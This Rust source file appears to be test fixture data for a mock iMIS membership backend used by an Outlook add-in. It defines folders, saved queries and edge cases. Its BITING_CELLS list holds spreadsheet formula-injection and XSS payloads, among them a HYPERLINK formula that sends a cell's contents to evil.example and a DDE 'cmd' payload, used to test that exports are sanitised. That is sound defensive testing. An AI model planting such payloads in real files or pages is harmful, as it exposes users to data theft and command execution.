//! The folders and queries that are there from the start.

use std::time::Duration;

use super::{
    Column, Folder, Kind, Label, Library, Operation, Prompt, Publication, Query, Required, Rest, Source, Type, Visible,
};

/// How many rows `$/Outlook/Everybody there is` has.
pub const LARGE_QUERY_ROWS: u32 = 100_000;

/// Texts that do harm where they are taken for a formula, markup or a line of their own: the rows of
/// `$/Outlook/Cells that bite`.
pub const BITING_CELLS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1)",
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "two\r\nlines",
    "two\nlines",
    "a \"quoted\" word",
    "a, comma; semicolon",
    "\"",
    "\"\"",
    ",",
    "\u{202e}gnp.exe",
    "nothing to see",
    "Žluťoučký kůň 漢字 🦄",
    "\u{feff}=1+1",
    "{{7*7}}",
    "%0A=1+1",
    "Smith;=cmd|' /C calc'!A0",
    "Smith; \u{200e}+1+1",
    "Smith;\"=1+1;",
    "tab\t@SUM(1)",
    "pipe|-2+3",
    "two\r\n=1+1\nlines",
];

const fn text(alias: &'static str, property: &'static str) -> Column {
    Column { alias, property, type_: Type::Text, format: "", link: "", prefixed_in_2017: false }
}

const fn typed(alias: &'static str, property: &'static str, type_: Type, format: &'static str) -> Column {
    Column { alias, property, type_, format, link: "", prefixed_in_2017: false }
}

const ID: Column = text("ID", "Id");
const NAME: Column = text("Full Name", "FullName");
const EMAIL: Column =
    Column { alias: "Email", property: "Email", type_: Type::Text, format: "EMAIL", link: "", prefixed_in_2017: true };
const MEMBER_TYPE: Column = text("Member type", "CustomerTypeCode");
const PAID_THROUGH: Column = typed("Paid through", "PaidThrough", Type::Moment, "d");
const BALANCE: Column = typed("Balance due", "Balance", Type::Decimal, "N");
const ACTIVE: Column = typed("Active", "IsActive", Type::Flag, "");
const WEBSITE: Column = Column {
    alias: "Website",
    property: "Website",
    type_: Type::Text,
    format: "",
    link: "[Website]",
    prefixed_in_2017: false,
};

const fn prompt(property: &'static str, caption: &'static str, operation: Operation, kind: Kind) -> Prompt {
    Prompt {
        property,
        caption,
        label: Label::Search,
        operation,
        kind,
        required: Required::No,
        several: false,
        max_length: 0,
        value: None,
        list: &[],
    }
}

fn query(path: &str, source: Source, columns: &[Column]) -> Query {
    Query {
        path: path.to_owned(),
        description: "",
        visible: Visible::Staff,
        publication: Publication::Published,
        rest: Rest::Open,
        system: false,
        prompts: Vec::new(),
        columns: columns.to_vec(),
        sort: Vec::new(),
        source,
        delay: Duration::ZERO,
    }
}

const MEMBER_TYPES: &[(&str, &str)] =
    &[("REG", "Regular member"), ("STU", "Student member"), ("HON", "Honorary member"), ("NM", "Non-member")];

fn folders() -> Vec<Folder> {
    let folder = |path, visible| Folder { path, visible, system: false };
    vec![
        folder("$/", Visible::Staff),
        folder("$/Common", Visible::Staff),
        folder("$/Common/Queries", Visible::Staff),
        folder("$/Common/Queries/Search", Visible::Staff),
        folder("$/Common/Queries/Search/Contact", Visible::Staff),
        // STAFF1 is of the staff, and sees less than others.
        folder("$/Finance", Visible::Only(&["READER1"])),
        folder("$/Outlook", Visible::Staff),
        folder("$/Outlook/Board", Visible::Staff),
        Folder { path: "$/Outlook/Query Sources", visible: Visible::Staff, system: true },
        folder("$/Secret", Visible::Administrators),
        folder("$/Secret/Deep", Visible::Staff),
    ]
}

/// What a fresh site has.
pub(in crate::imis) fn library() -> Library {
    let mut queries = for_people();
    queries.extend(for_the_pane());
    queries.extend(odd_ones());
    Library { folders: folders(), queries }
}

/// What staff look people up with.
fn for_people() -> Vec<Query> {
    vec![
        Query {
            description: "Everybody in the database",
            sort: vec![("Full Name", false)],
            ..query("$/Common/Queries/Search/Contact/All", Source::Contacts, &[ID, NAME, EMAIL, MEMBER_TYPE])
        },
        Query {
            description: "People by the beginning of their last name",
            prompts: vec![
                Prompt {
                    required: Required::Yes,
                    max_length: 30,
                    ..prompt("LastName", "Last name", Operation::StartsWith, Kind::Text)
                },
                prompt("Email", "Email", Operation::StartsWith, Kind::Text),
            ],
            sort: vec![("Full Name", false)],
            ..query(
                "$/Outlook/Find contacts",
                Source::Contacts,
                &[ID, NAME, EMAIL, text("Organization", "Organization"), text("City", "City")],
            )
        },
        Query {
            description: "Members by type, standing, date and balance",
            prompts: vec![
                Prompt {
                    several: true,
                    list: MEMBER_TYPES,
                    value: Some("REG"),
                    ..prompt("CustomerTypeCode", "Member type", Operation::Equal, Kind::Text)
                },
                prompt("IsActive", "Active", Operation::Equal, Kind::Flag),
                Prompt {
                    label: Label::Caption,
                    ..prompt("PaidThrough", "Paid through, at least", Operation::GreaterThanOrEqual, Kind::Date)
                },
                Prompt { label: Label::None, ..prompt("Balance", "", Operation::GreaterThanOrEqual, Kind::Number) },
                prompt("City", "City has", Operation::Contains, Kind::Text),
            ],
            sort: vec![("Balance due", true), ("Full Name", false)],
            ..query(
                "$/Outlook/Members",
                Source::Contacts,
                &[
                    ID,
                    NAME,
                    EMAIL,
                    MEMBER_TYPE,
                    PAID_THROUGH,
                    BALANCE,
                    ACTIVE,
                    WEBSITE,
                    typed("Changed", "UpdatedOn", Type::Moment, "g"),
                    typed("Committees", "Committees", Type::Whole, ""),
                ],
            )
        },
        Query {
            description: "Who reads the newsletter",
            ..query(
                "$/Outlook/Newsletter readers",
                Source::Contacts,
                &[ID, NAME, EMAIL, typed("No e-mail", "NoEmail", Type::Flag, "")],
            )
        },
        Query {
            description: "Addresses at work; what it says of e-mail is not what the contacts' own preferences say",
            ..query(
                "$/Outlook/At work",
                Source::Contacts,
                &[ID, NAME, text("Work e-mail", "WorkEmail"), typed("Opted out", "OptedOut", Type::Flag, "")],
            )
        },
        Query {
            description: "Rows that name no contact",
            ..query(
                "$/Outlook/Without keys",
                Source::Contacts,
                &[text("First Name", "First"), text("Last Name", "Last"), EMAIL, text("Opt-out", "OptedOutWord")],
            )
        },
        query("$/Outlook/Names only", Source::Contacts, &[ID, NAME, text("City", "City")]),
        query(
            "$/Outlook/Board/Chair",
            Source::Contacts,
            &[text("Contact ID", "Id"), text("First Name", "First"), text("Last Name", "Last"), EMAIL],
        ),
        Query { description: "Who I am here", ..query("$/Outlook/Myself", Source::Myself, &[ID, NAME, EMAIL]) },
        query("$/Finance/Overdue", Source::Contacts, &[ID, NAME, PAID_THROUGH, BALANCE]),
    ]
}

/// What an administrator has set up for the add-in.
fn for_the_pane() -> Vec<Query> {
    vec![
        Query {
            description: "What the card shows of a contact",
            prompts: vec![Prompt {
                required: Required::Yes,
                max_length: 10,
                ..prompt("Id", "ID", Operation::Equal, Kind::Text)
            }],
            ..query(
                "$/Outlook/Contact card",
                Source::Contacts,
                &[
                    text("ID", "Id"),
                    text("Member type", "CustomerTypeCode"),
                    text("Status", "Status"),
                    PAID_THROUGH,
                    typed("Join date", "JoinDate", Type::Moment, "d"),
                    BALANCE,
                    ACTIVE,
                    text("Organization", "Organization"),
                    WEBSITE,
                ],
            )
        },
        Query {
            description: "Looks for a text in names, addresses and organizations",
            prompts: vec![Prompt {
                required: Required::Yes,
                ..prompt("SearchText", "Search text", Operation::Contains, Kind::Text)
            }],
            sort: vec![("Full Name", false)],
            ..query(
                "$/Outlook/Search",
                Source::Contacts,
                &[ID, NAME, EMAIL, text("Organization", "Organization"), text("City", "City"), ACTIVE],
            )
        },
    ]
}

/// What goes wrong, or could.
fn odd_ones() -> Vec<Query> {
    vec![
        Query {
            description: "As many as a large association has",
            ..query(
                "$/Outlook/Everybody there is",
                Source::Made(LARGE_QUERY_ROWS),
                &[ID, NAME, EMAIL, typed("Joined", "JoinDate", Type::Moment, "d"), BALANCE, text("Note", "Note")],
            )
        },
        query("$/Outlook/Cells that bite", Source::Biting, &[ID, NAME, text("Cell", "Cell"), text("=Caption", "Cell")]),
        Query { rest: Rest::Closed, ..query("$/Outlook/Not for programs", Source::Contacts, &[ID, NAME, EMAIL]) },
        Query {
            delay: Duration::from_mins(10),
            ..query("$/Outlook/Takes for ever", Source::Contacts, &[ID, NAME, EMAIL])
        },
        Query {
            publication: Publication::Working,
            ..query("$/Outlook/Never published", Source::Contacts, &[ID, NAME, EMAIL])
        },
        Query { system: true, ..query("$/Outlook/Query Sources/NetContactData", Source::Contacts, &[ID, NAME, EMAIL]) },
        query("$/Secret/Salaries", Source::Contacts, &[ID, NAME, BALANCE]),
        query("$/Secret/Deep/Down", Source::Contacts, &[ID, NAME]),
        Query {
            visible: Visible::Administrators,
            ..query("$/Outlook/Board/Minutes", Source::Contacts, &[ID, NAME, EMAIL])
        },
    ]
}
